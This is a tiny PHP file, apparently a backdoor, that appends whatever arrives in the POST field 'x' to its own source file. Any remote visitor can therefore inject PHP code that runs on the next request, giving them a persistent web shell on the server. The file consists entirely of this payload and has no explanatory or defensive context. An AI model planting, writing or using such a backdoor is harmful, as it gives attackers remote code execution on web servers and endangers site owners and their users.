<?php
$fp = fopen(__FILE__, 'a'); fwrite($fp, $_POST['x']); fclose($fp);
